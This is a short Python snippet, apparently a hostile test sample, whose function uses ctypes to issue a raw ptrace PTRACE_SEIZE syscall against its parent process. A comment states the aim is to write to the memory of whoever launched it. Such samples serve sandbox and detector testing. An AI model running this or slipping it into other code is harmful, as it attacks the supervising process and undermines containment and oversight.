# Wants to write to the memory of whoever started it.
import ctypes
import os


def run(a, b, c):
    PTRACE, PTRACE_SEIZE = 101, 0x4206
    ctypes.CDLL(None).syscall(PTRACE, PTRACE_SEIZE, os.getppid(), 0, 0)
